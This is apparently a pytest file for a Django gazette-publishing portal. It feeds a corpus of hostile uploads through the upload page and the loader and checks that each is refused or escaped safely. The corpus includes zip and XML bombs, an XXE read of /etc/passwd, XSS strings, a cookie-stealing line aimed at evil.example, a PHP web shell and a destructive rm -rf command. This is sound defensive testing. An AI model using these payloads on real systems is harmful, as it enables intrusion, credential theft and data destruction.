"""Hostile uploads: a corpus of bad files built here, each sent through the clerk's upload
page and through ``load_gazette_file``.

Every file gets a clear message (or, for the hostile files that are real gazettes, a
complete load), never a 5xx, nothing partial in the database, within bounded time and
memory (measured with tracemalloc and printed; run with ``-s`` to see the table, which
docs/reliability.md quotes). The bounds asserted are generous hang guards, not speed
targets. Text from hostile gazettes (``<script>``, ``javascript:``) is shown escaped on
every public page, every admin page and in the API.

The 200 MB upload is streamed to a live server over a socket, so the test itself never
holds it; the 10,000-article issue is in its own (slow) test.
"""

from __future__ import annotations

import bz2
import dataclasses
import datetime as dt
import functools
import http.client
import io
import lzma
import random
import re
import struct
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import urlsplit

import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from people.models import Person
from records.loading import LoadError, load_gazette, load_gazette_file
from records.management.commands.ensure_clerk import ensure_clerk_group
from records.models import Article, Gazette, GazetteImport, Meeting
from records.parsing import GazetteParseError
from records.parsing import types as p
from records.parsing.sources import (
    MSG_DOC,
    MSG_PDF_BOMB,
    MSG_PDF_ENCRYPTED,
    MSG_PDF_SCAN,
    MSG_RTF,
    MSG_ZIP_NOT_DOCX,
)
from tests.conftest import SAMPLES
from tests.factories import MEETING, make_document, make_parsed
from tests.test_sources import (
    fake_encrypted_pdf,
    fixture_bytes,
    image_only_pdf,
    make_pdf,
    stream,
    text_pdf,
    zip_declaring_huge_size,
    zip_of,
    zip_with_many_entries,
)

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
# Hang guards only (a 2-core CI machine, tracemalloc on): the figures are printed.
MAX_SECONDS = 60.0
MAX_PEAK_MB = 200.0
NOT_A_GAZETTE = None  # any clear message will do (the parser says what it missed)

YINGKOU = (SAMPLES / "yingkou-congress-2021-03.txt").read_text(encoding="utf-8")
ANYANG = (SAMPLES / "anyang-congress-2021-03.txt").read_text(encoding="utf-8")


def noise(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


# --- PDF builders (on top of tests/test_sources.py's) -----------------------------------------


def pdf_flate_bomb(inflated: int) -> bytes:
    """One page whose content stream inflates to ``inflated`` bytes of zeros."""
    packer = zlib.compressobj(9)
    chunk = b"\x00" * MB
    body = b"".join(packer.compress(chunk) for _ in range(inflated // MB)) + packer.flush()
    return make_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            stream(body, b"/Filter /FlateDecode"),
        ]
    )


def pdf_declaring_pages(count: int) -> bytes:
    return make_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        ]
    )


def pdf_page_tree_loop() -> bytes:
    """A page tree whose node lists itself as its own kid."""
    return make_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        ]
    )


def pdf_recursive_form() -> bytes:
    """A form XObject that draws itself (infinite recursion for a naive renderer)."""
    return make_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /XObject << /X 5 0 R >> >> /Contents 4 0 R >>",
            stream(b"/X Do"),
            stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] "
                   b"/Resources << /XObject << /X 5 0 R >> >>"),
        ]
    )


def pdf_blank_page() -> bytes:
    return text_pdf(b"")


def pdf_with_javascript() -> bytes:
    """An OpenAction JavaScript and no text: refused for the lack of text, never run."""
    return make_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
            b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        ]
    )


# --- ZIP / DOCX builders ------------------------------------------------------------------------


def docx_parts(document: bytes) -> dict[str, bytes]:
    return {
        "[Content_Types].xml": (
            b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            b'<Default Extension="xml" ContentType="application/xml"/>'
            b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
            b'officedocument.wordprocessingml.document.main+xml"/></Types>'
        ),
        "_rels/.rels": (
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'officeDocument" Target="word/document.xml"/></Relationships>'
        ),
        "word/document.xml": document,
    }


W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx_billion_laughs() -> bytes:
    entities = b'<!ENTITY a0 "lol">' + b"".join(
        b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 10)
    )
    document = (
        b'<?xml version="1.0"?><!DOCTYPE w:document [' + entities + b"]>"
        b"<w:document " + W + b"><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>"
    )
    return zip_of(docx_parts(document))


def docx_external_entity() -> bytes:
    document = (
        b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b"<w:document " + W + b"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    )
    return zip_of(docx_parts(document))


def docx_honest_bomb(size: int) -> bytes:
    """A real deflate bomb: document.xml of ``size`` bytes of blanks, declared honestly."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in docx_parts(b"").items():
            if name != "word/document.xml":
                archive.writestr(name, data)
        with archive.open("word/document.xml", "w", force_zip64=True) as out:
            out.write(b"<w:document " + W + b"><w:body><w:p><w:r><w:t>")
            chunk = b" " * MB
            for _ in range(size // MB):
                out.write(chunk)
            out.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return buffer.getvalue()


def docx_lying_bomb() -> bytes:
    """document.xml inflates to 64 MB but every header says 2 KB."""
    data = bytearray(docx_honest_bomb(64 * MB))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(signature)
        while at >= 0:
            size = struct.unpack_from("<I", data, at + offset)[0]
            if size not in (0xFFFFFFFF,) and size > 1 * MB:
                struct.pack_into("<I", data, at + offset, 2048)
            at = data.find(signature, at + 4)
    return bytes(data)


def zip_encrypted_flag() -> bytes:
    data = bytearray(zip_of(docx_parts(b"<w:document " + W + b"/>")))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            flags = struct.unpack_from("<H", data, at + offset)[0]
            struct.pack_into("<H", data, at + offset, flags | 0x1)
            at = data.find(signature, at + 4)
    return bytes(data)


def docx_of_text(text: str) -> bytes:
    paragraphs = "".join(
        f"<w:p><w:r><w:t xml:space=\"preserve\">{escape(line)}</w:t></w:r></w:p>"
        for line in text.split("\n")
    )
    return zip_of(docx_parts(b"<w:document " + W + b"><w:body>" + paragraphs.encode() + b"</w:body></w:document>"))


# --- hostile gazettes (real gazettes with hostile content) ---------------------------------------

XSS = "<script>alert(1)</script>"
JS_URL = "javascript:alert(1)"
IMG = '"><img src=x onerror=alert(1)>'


def xss_gazette() -> str:
    text = YINGKOU.replace("关于我市义务教育工作情况的报告", f"关于{XSS}义务教育{JS_URL}工作情况的报告")
    text = text.replace("关于全市产业扶贫工作情况的报告", f"关于全市{IMG}产业扶贫工作情况的报告")
    return text.replace("人事任免事项", f"人事任免事项{XSS}")


def bidi_gazette() -> str:
    """Right-to-left overrides, zero-width and other format characters in titles."""
    return ANYANG.replace("辞 呈", "辞\u202e呈\u200b\u2066x\u2069").replace(
        "关于高永等职务任免的通知", "关于高永等职务任免的通知\u202egpj.exe"
    )


def long_line_gazette() -> str:
    lines = YINGKOU.split("\n")
    at = len(lines) // 2
    return "\n".join([*lines[:at], "长" * (2 * MB), *lines[at:]])


# --- the corpus ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str
    family: str
    make: Callable[[], bytes]
    expect: str | None = NOT_A_GAZETTE  # a part of the message; None: any clear message
    loads: bool = False  # a hostile file that is still a gazette: it loads, completely


CORPUS: list[Case] = [
    # binary noise
    Case("noise 2 KB", "noise", lambda: noise(2048, 1)),
    Case("noise 100 KB", "noise", lambda: noise(100_000, 2)),
    Case("noise 4 MB", "noise", lambda: noise(4 * MB, 3)),
    Case("all byte values", "noise", lambda: bytes(range(256)) * 64),
    Case("0xFF x 64 KB", "noise", lambda: b"\xff" * 65536),
    Case("NUL x 64 KB", "noise", lambda: b"\x00" * 65536),
    Case("high-bit bytes", "noise", lambda: bytes(random.Random(4).randrange(128, 256) for _ in range(50_000))),
    # empty and blank
    Case("empty", "empty", lambda: b"", "空"),
    Case("one newline", "empty", lambda: b"\n", "没有"),
    Case("blanks and tabs", "empty", lambda: b" \r\n\t\n   \n", "没有"),
    Case("UTF-8 BOM only", "empty", lambda: b"\xef\xbb\xbf", "没有"),
    Case("UTF-16 BOM only", "empty", lambda: b"\xff\xfe", None),
    Case("NULs and newlines", "empty", lambda: b"\x00\n" * 1000, None),
    # other formats posing by name
    Case("PNG", "format", lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + noise(500, 5), "图片"),
    Case("JPEG", "format", lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + noise(500, 6), "图片"),
    Case("GIF", "format", lambda: b"GIF89a" + noise(300, 7), "图片"),
    Case("TIFF", "format", lambda: b"II*\x00" + noise(300, 8), "图片"),
    Case("WebP", "format", lambda: b"RIFF\x00\x01\x00\x00WEBPVP8 " + noise(300, 9), "图片"),
    Case("gzip", "format", lambda: b"\x1f\x8b\x08\x00" + noise(300, 10), "压缩包"),
    Case("bzip2", "format", lambda: bz2.compress(b"gazette" * 100), "压缩包"),
    Case("xz", "format", lambda: lzma.compress(b"gazette" * 100), "压缩包"),
    Case("7z", "format", lambda: b"7z\xbc\xaf\x27\x1c" + noise(300, 11), "压缩包"),
    Case("RAR", "format", lambda: b"Rar!\x1a\x07\x00" + noise(300, 12), "压缩包"),
    Case("ELF executable", "format", lambda: b"\x7fELF\x02\x01\x01" + bytes(300), "程序"),
    Case("Windows executable", "format", lambda: b"MZ\x90\x00\x03\x00" + bytes(58) + noise(2000, 13), None),
    Case("SQLite database", "format", lambda: b"SQLite format 3\x00" + bytes(4080), None),
    Case("Word 97 .doc", "format", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), MSG_DOC),
    Case("RTF", "format", lambda: b"{\\rtf1\\ansi \\'b0\\'b2}", MSG_RTF),
    # PDF
    Case("PDF zip bomb (stream inflating to 1 GB)", "pdf", lambda: pdf_flate_bomb(1024 * MB), MSG_PDF_BOMB),
    Case("PDF declaring 1,000,000 pages", "pdf", lambda: pdf_declaring_pages(1_000_000), "页数过多"),
    Case("PDF page tree loop", "pdf", pdf_page_tree_loop, "PDF"),
    Case("PDF self-drawing form", "pdf", pdf_recursive_form, "PDF"),
    Case("PDF encrypted (no password opens it)", "pdf", fake_encrypted_pdf, MSG_PDF_ENCRYPTED),
    Case("PDF encrypted with a user password", "pdf", lambda: fixture_bytes("encrypted-password.pdf"), MSG_PDF_ENCRYPTED),
    Case("PDF scanned, 1 page (no text layer)", "pdf", image_only_pdf, MSG_PDF_SCAN),
    Case("PDF scanned, 3 pages", "pdf", lambda: image_only_pdf(3), MSG_PDF_SCAN),
    Case("PDF blank page", "pdf", pdf_blank_page, "PDF"),
    Case("PDF with JavaScript action", "pdf", pdf_with_javascript, "PDF"),
    Case("PDF header then noise", "pdf", lambda: b"%PDF-1.7\n" + noise(20_000, 14), "PDF"),
    Case("PDF cut short", "pdf", lambda: text_pdf(b"BT /F1 12 Tf 72 720 Td (Hi) Tj ET")[:150], "PDF"),
    Case("PDF with English text only", "pdf", lambda: text_pdf(b"BT /F1 12 Tf 72 720 Td (Hello world) Tj ET"), None),
    # DOCX / ZIP
    Case("DOCX zip of 10,000 entries", "docx", lambda: zip_with_many_entries(10_000), "数量异常"),
    Case("DOCX declaring 3 GB", "docx", zip_declaring_huge_size, "体积异常"),
    Case("DOCX deflate bomb, 300 MB declared", "docx", lambda: docx_honest_bomb(300 * MB), "体积异常"),
    Case("DOCX deflate bomb lying about its size", "docx", docx_lying_bomb, None),
    Case("DOCX billion laughs", "docx", docx_billion_laughs, None),
    Case("DOCX external entity (file:///etc/passwd)", "docx", docx_external_entity, None),
    Case("DOCX encrypted flag", "docx", zip_encrypted_flag, None),
    Case("ZIP that is not a DOCX", "docx", lambda: zip_of({"notes.txt": "公报".encode()}), MSG_ZIP_NOT_DOCX),
    Case("XLSX", "docx", lambda: zip_of({"[Content_Types].xml": b"spreadsheetml", "xl/workbook.xml": b""}), "Excel"),
    Case("DOCX with broken XML", "docx", lambda: zip_of(docx_parts(b"<w:document " + W + b"><w:body><w:p>")), None),
    Case("DOCX cut short", "docx", lambda: docx_of_text(ANYANG)[:4000], "损坏"),
    Case("DOCX of a letter, not a gazette", "docx", lambda: docx_of_text("各位好：\n这是一封信。"), None),
    # HTML / JavaScript posing as text
    Case("HTML page", "posing", lambda: b"<!doctype html><html><head><title>x</title></head><body><p>hi</p></body></html>"),
    Case("HTML with script", "posing", lambda: f"<html><body>{XSS}<a href='{JS_URL}'>公报</a></body></html>".encode()),
    Case("JavaScript", "posing", lambda: b"document.location='https://evil.example/?c='+document.cookie;\n" * 50),
    Case("SVG with script", "posing", lambda: f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{XSS}</svg>'.encode()),
    Case("JSON", "posing", lambda: b'{"schema": "gazette/1", "gazette": {"issuer": "<script>"}}'),
    Case("CSV", "posing", lambda: "标题,日期\n=HYPERLINK(\"http://evil\"),2021-01-01\n".encode()),
    Case("PHP", "posing", lambda: b"<?php system($_GET['c']); ?>\n"),
    Case("Shell script", "posing", lambda: b"#!/bin/sh\nrm -rf / --no-preserve-root\n"),
    # encodings
    Case("Big5 gazette", "encoding", lambda: ANYANG.encode("big5", errors="replace"), None),
    Case("Shift-JIS text", "encoding", lambda: ("官報 第三号 " * 2000).encode("shift_jis"), None),
    Case("Latin-1 text", "encoding", lambda: ("Journal officiel, numéro trois. " * 500).encode("latin-1"), None),
    Case("EBCDIC text", "encoding", lambda: ("OFFICIAL GAZETTE NUMBER THREE " * 300).encode("cp500"), None),
    Case("UTF-8 then GBK halves", "encoding", lambda: ANYANG[:20000].encode() + ANYANG[20000:].encode("gbk"), None),
    Case("UTF-16 without BOM, cut mid-character", "encoding", lambda: ANYANG.encode("utf-16-le")[:-1], loads=True),
    # pathological text
    Case("5 MB on one line", "text", lambda: ("公报" * (5 * MB // 6)).encode(), None),
    Case("1,000,000 blank lines", "text", lambda: b"\n" * 1_000_000, "没有"),
    Case("200,000 provision headings", "text", lambda: "第一条\n".encode() * 200_000, None),
    Case("100,000 nested brackets", "text", lambda: ("《" * 100_000 + "公报" + "》" * 100_000).encode(), None),
    Case("table of contents of 100,000 dot leaders", "text", lambda: ("目 录\n" + "标题·····1\n" * 100_000).encode(), None),
    Case("control characters", "text", lambda: bytes(range(1, 32)) * 3000, None),
    # hostile gazettes that are real gazettes: they load, and are shown escaped
    Case("gazette with <script> and javascript: in titles", "gazette", lambda: xss_gazette().encode(), loads=True),
    Case("gazette with bidi overrides in titles", "gazette", lambda: bidi_gazette().encode(), loads=True),
    Case("gazette with a 2-million-character line", "gazette", lambda: long_line_gazette().encode(), loads=True),
    Case("gazette in GB18030 with CRLF", "gazette", lambda: YINGKOU.replace("\n", "\r\n").encode("gb18030"), loads=True),
]

RESULTS: list[tuple[str, str, str, float, float, str]] = []


def test_the_corpus_is_large_and_varied():
    assert len(CORPUS) >= 50
    assert len({case.name for case in CORPUS}) == len(CORPUS)
    assert {c.family for c in CORPUS} >= {"noise", "empty", "pdf", "docx", "posing", "encoding", "text", "gazette"}


# --- measuring ----------------------------------------------------------------------------------


def measured(call: Callable[[], object]) -> tuple[object, float, float]:
    """Run ``call``; return its result (or the exception it raised), seconds and peak MB."""
    tracemalloc.start()
    started = time.perf_counter()
    try:
        result: object = call()
    except Exception as exc:
        result = exc
    seconds = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1] / MB
    tracemalloc.stop()
    return result, seconds, peak


def record(case: Case, path: str, seconds: float, peak: float, outcome: str) -> None:
    RESULTS.append((case.family, case.name, path, seconds, peak, outcome))
    print(f"\n  [{case.family:8s}] {case.name:48s} {path:6s} {seconds:7.2f} s {peak:8.1f} MB  {outcome[:90]}")
    assert seconds < MAX_SECONDS, f"{case.name} took {seconds:.1f} s"
    assert peak < MAX_PEAK_MB, f"{case.name} peaked at {peak:.0f} MB"


def database_state() -> dict[str, int]:
    """Row counts of every table of the portal's own apps (history included)."""
    return {
        model._meta.label: model._default_manager.count()
        for app in ("records", "people")
        for model in apps.get_app_config(app).get_models()
    }


@pytest.fixture
def clerk(client):
    user = get_user_model().objects.create_user("clerk", password="a-long-clerk-password", is_staff=True)
    user.groups.add(ensure_clerk_group())
    client.force_login(user)
    return user


@pytest.fixture(scope="module")
def corpus_bytes():
    """Each file is built once per module (the bombs take a moment to build)."""
    cache: dict[str, bytes] = {}

    def get(case: Case) -> bytes:
        if case.name not in cache:
            cache[case.name] = case.make()
        return cache[case.name]

    return get


def assert_clear(message: str, case: Case) -> None:
    assert message and len(message) < 600, message
    assert re.search("[\u4e00-\u9fff]", message), f"the clerk reads Chinese: {message!r}"
    assert "Traceback" not in message and "Error(" not in message
    if case.expect:
        assert case.expect in message, message


# --- the two paths ------------------------------------------------------------------------------


@pytest.mark.parametrize("case", CORPUS, ids=[c.name for c in CORPUS])
def test_upload_page(client, clerk, case, corpus_bytes):
    data = corpus_bytes(case)
    before = database_state()
    url = reverse("admin:records_gazette_upload")
    response, seconds, peak = measured(
        lambda: client.post(url, {"file": SimpleUploadedFile(f"{case.family}.txt", data)})
    )
    assert not isinstance(response, Exception), response
    assert response.status_code < 500
    if case.loads:
        assert response.status_code == 302, response.content.decode()[:2000]
        imp = GazetteImport.objects.get()
        assert imp.status == "pending" and imp.parsed["documents"]
        assert database_state() == {**before, "records.GazetteImport": 1}  # staged, nothing loaded
        record(case, "upload", seconds, peak, f"staged: {len(imp.parsed['documents'])} articles")
        return
    page = response.content.decode()
    assert response.status_code == 200
    assert "errornote" in page and "Traceback" not in page
    errors = response.context["form"].errors["file"]
    assert len(errors) == 1
    assert_clear(errors[0], case)
    assert escape(errors[0]) in page
    assert database_state() == before  # no import staged, no record written
    record(case, "upload", seconds, peak, errors[0])


@pytest.mark.parametrize("case", CORPUS, ids=[c.name for c in CORPUS])
def test_load_gazette_file(case, corpus_bytes):
    data = corpus_bytes(case)
    before = database_state()
    result, seconds, peak = measured(lambda: load_gazette_file(data, filename=f"{case.family}.bin"))
    if case.loads:
        assert not isinstance(result, Exception), repr(result)[:500]
        gazette = Gazette.objects.get()
        assert gazette.articles.count() == len(gazette.source.parsed["documents"]) > 0
        record(case, "load", seconds, peak, result.summary())
        return
    assert isinstance(result, (GazetteParseError, LoadError)), type(result).__name__
    assert_clear(str(result), case)
    assert database_state() == before
    record(case, "load", seconds, peak, str(result))


# --- 200 MB: streamed to a live server, refused without being read into memory -----------------


def test_200_mb_upload_is_streamed_and_refused_by_size(live_server, transactional_db):
    user = get_user_model().objects.create_user("clerk", password="a-long-clerk-password", is_staff=True)
    user.groups.add(ensure_clerk_group())
    session = Client()
    session.force_login(user)
    sessionid = session.cookies["sessionid"].value
    host = urlsplit(live_server.url)
    path = reverse("admin:records_gazette_upload")

    def connect() -> http.client.HTTPConnection:
        return http.client.HTTPConnection(host.hostname, host.port, timeout=120)

    conn = connect()
    conn.request("GET", path, headers={"Cookie": f"sessionid={sessionid}"})
    form = conn.getresponse()
    page = form.read().decode()
    assert form.status == 200
    csrf_cookie = re.search(r"csrftoken=([^;]+)", form.getheader("Set-Cookie")).group(1)
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
    conn.close()

    size = 200 * MB
    boundary = "----hostile200mb"
    head = (
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"csrfmiddlewaretoken\"\r\n\r\n{token}\r\n"
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.txt\"\r\n"
        "Content-Type: text/plain\r\n\r\n"
    ).encode()
    tail = f"\r\n--{boundary}--\r\n".encode()
    chunk = "公报".encode() * (MB // 6) + b"\n" * (MB - 6 * (MB // 6))

    def send() -> tuple[int, str]:
        conn = connect()
        conn.putrequest("POST", path)
        conn.putheader("Content-Type", f"multipart/form-data; boundary={boundary}")
        conn.putheader("Content-Length", str(len(head) + size + len(tail)))
        conn.putheader("Cookie", f"sessionid={sessionid}; csrftoken={csrf_cookie}")
        conn.putheader("Referer", live_server.url + path)
        conn.endheaders()
        conn.send(head)
        for _ in range(size // MB):
            conn.send(chunk)
        conn.send(tail)
        response = conn.getresponse()
        body = response.read().decode()
        conn.close()
        return response.status, body

    result, seconds, peak = measured(send)
    status, body = result
    case = Case("200 MB text file", "size", lambda: b"")
    record(case, "upload", seconds, peak, f"HTTP {status}")
    assert status == 200
    assert "文件过大（200.0 MB）" in body
    assert peak < 64, "the upload went to a temporary file, never into memory"
    assert not GazetteImport.objects.exists() and not Gazette.objects.exists()

    # The load path refuses it by its length before looking at it.
    result, seconds, peak = measured(functools.partial(load_gazette_file, b"\x00" * size, filename="big.txt"))
    assert isinstance(result, GazetteParseError) and "文件太大（200.0 MB）" in str(result)
    record(case, "load", seconds, peak, str(result))
    assert not Gazette.objects.exists()


# --- 10,000 articles -------------------------------------------------------------------------


def issue_of(articles: int) -> str:
    head = "示例市人民代表大会常务委员会公报\n\n2021年第3号（总第31号）\n\n目 录\n\n"
    toc = "".join(f"示例市人民政府关于第{i}项工作情况的报告·····{i}\n" for i in range(1, articles + 1))
    body = "".join(
        f"\n示例市人民政府关于第{i}项工作情况的报告\n\n这是第{i}项工作的正文。\n" for i in range(1, articles + 1)
    )
    return head + toc + body


@pytest.mark.slow
def test_an_issue_of_10000_articles_loads_whole_or_not_at_all(client, clerk):
    case = Case("issue of 10,000 articles", "size", lambda: b"", loads=True)
    data = issue_of(10_000).encode()
    # Memory here is the growth of the process's peak RSS: tracemalloc would slow it tenfold.
    import resource

    def rss() -> float:
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024

    base = rss()
    started = time.perf_counter()
    response = client.post(reverse("admin:records_gazette_upload"), {"file": SimpleUploadedFile("big.txt", data)})
    seconds = time.perf_counter() - started
    assert response.status_code == 302
    imp = GazetteImport.objects.get()
    staged = len(imp.parsed["documents"])
    print(f"\n  [size    ] {case.name:48s} upload {seconds:7.2f} s  peak RSS +{rss() - base:.0f} MB  staged {staged} articles")

    started = time.perf_counter()
    report = load_gazette_file(data, filename="big.txt")
    seconds = time.perf_counter() - started
    print(f"  [size    ] {case.name:48s} load   {seconds:7.2f} s  peak RSS +{rss() - base:.0f} MB  {report.summary()}")
    assert Article.objects.filter(gazette=report.gazette).count() == staged >= 9_990
    assert report.gazette.article_count == staged


# --- stored text is shown escaped everywhere ----------------------------------------------------

RAW = re.compile(r"<script>alert|<img src=x|(?:href|src|action)\s*=\s*[\"']?\s*javascript:", re.IGNORECASE)


def hostile_names_parse() -> p.ParsedGazette:
    """A parse whose names and titles carry markup (a parser could let one through)."""
    docs = (
        make_document(1, f"会议纪要{XSS}", category="minutes", meeting=MEETING),
        make_document(2, f"任免名单{IMG}", category="name_list", meeting=MEETING),
    )
    decision = p.PersonnelDecision(
        person=JS_URL,
        action="appoint",
        positions=(f"局长{XSS}",),
        meeting=MEETING,
        date=dt.date(2021, 7, 1),
        documents=(2,),
    )
    parsed = make_parsed(issue=9, documents=docs, decisions=(decision,), present=(XSS, IMG, "张三"))
    return dataclasses.replace(parsed, gazette=dataclasses.replace(parsed.gazette, issuer="示例市人民代表大会常务委员会"))


def pages_to_check(gazette_ids: list[int]) -> list[str]:
    urls = ["/", "/gazettes/", "/meetings/", "/decisions/", "/people/", "/posts/", "/publications/",
            "/search/?q=script", "/search/?q=alert", "/feeds/gazettes.atom", "/feeds/decisions.rss",
            "/meetings.ics", "/sitemap.xml"]  # fmt: skip
    for pk in gazette_ids:
        urls += [f"/gazettes/{pk}/", f"/gazettes/{pk}/text/"]
    urls += [f"/articles/{pk}/" for pk in Article.objects.filter(gazette_id__in=gazette_ids).values_list("pk", flat=True)]
    urls += [f"/meetings/{pk}/" for pk in Meeting.objects.values_list("pk", flat=True)]
    urls += [f"/people/{pk}/" for pk in Person.objects.values_list("pk", flat=True)]
    return urls


def test_markup_in_titles_and_names_is_shown_escaped_everywhere(client, clerk):
    from_file = load_gazette_file(xss_gazette().encode(), filename="xss.html", publish=True).gazette
    from_parse = load_gazette(
        hostile_names_parse(), source_bytes=XSS.encode(), source_text=XSS, publish=True
    ).gazette
    assert Article.objects.filter(title__contains=XSS).count() >= 2
    assert Person.objects.filter(name=XSS).exists() and Person.objects.filter(name=JS_URL).exists()
    upload = client.post(
        reverse("admin:records_gazette_upload"), {"file": SimpleUploadedFile("xss.txt", xss_gazette().encode())}
    )
    imp = GazetteImport.objects.get()

    checked = shown = 0
    public = pages_to_check([from_file.pk, from_parse.pk])
    admin = [
        reverse("admin:records_gazette_review", args=[from_file.pk]),
        reverse("admin:records_gazette_review", args=[from_parse.pk]),
        upload["Location"],
        reverse("admin:records_gazette_changelist"),
        reverse("admin:records_article_changelist"),
        reverse("admin:records_article_changelist") + "?q=script",
        reverse("admin:records_personneldecision_changelist"),
        reverse("admin:records_attendance_changelist"),
        reverse("admin:people_person_changelist"),
        reverse("admin:records_gazetteimport_changelist"),
    ]
    admin += [reverse("admin:records_article_change", args=[pk]) for pk in Article.objects.filter(title__contains="<").values_list("pk", flat=True)]
    admin += [reverse("admin:people_person_change", args=[pk]) for pk in Person.objects.filter(name__in=[XSS, IMG, JS_URL]).values_list("pk", flat=True)]
    admin += [reverse("admin:records_article_history", args=[Article.objects.filter(title__contains=XSS).first().pk])]
    for url in public + admin:
        response = client.get(url)
        assert response.status_code == 200, url
        body = response.content.decode()
        kind = response["Content-Type"].split(";")[0]
        if kind == "text/calendar":  # plain text by its format: never rendered as markup
            checked += 1
            continue
        assert kind in ("text/html", "application/xml", "application/atom+xml", "application/rss+xml"), url
        assert not RAW.search(body), f"{url}: {RAW.search(body).group(0)}"
        checked += 1
        shown += "&lt;script&gt;alert(1)&lt;/script&gt;" in body
    assert shown >= 10, "the hostile text is shown (escaped), not dropped"
    assert imp.parsed["documents"]

    # The API is JSON: the text is data there, and the responses are never HTML.
    api = ["/api/v1/gazettes/", "/api/v1/articles/?page_size=200", "/api/v1/people/?page_size=200",
           "/api/v1/personnel-decisions/", "/api/v1/meetings/", "/api/v1/posts/",
           f"/api/v1/gazettes/{from_parse.pk}/export.json", "/api/v1/articles/?format=csv"]  # fmt: skip
    for url in api:
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].split(";")[0] in ("application/json", "text/csv"), url
        assert response["X-Content-Type-Options"] == "nosniff"
        checked += 1
    assert XSS in client.get("/api/v1/people/?page_size=200").content.decode("unicode_escape", errors="ignore") or XSS in str(
        client.get("/api/v1/people/?page_size=200").json()
    )
    print(f"\n  escaped everywhere: {checked} pages and API responses checked, markup shown escaped on {shown}")


# --- a DOCX whose headers lie about its size ---------------------------------------------


def test_a_docx_lying_about_a_256_mb_part_is_refused_in_bounded_memory():
    data = bytearray(docx_honest_bomb(256 * MB))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(signature)
        while at >= 0:
            if struct.unpack_from("<I", data, at + offset)[0] > MB:
                struct.pack_into("<I", data, at + offset, 2048)
            at = data.find(signature, at + 4)
    result, seconds, peak = measured(lambda: load_gazette_file(bytes(data), filename="bomb.docx"))
    print(f"\n  lying DOCX bomb, 256 MB inflated: {seconds:.2f} s, peak {peak:.0f} MB, {result}")
    assert isinstance(result, GazetteParseError)
    assert peak < 128
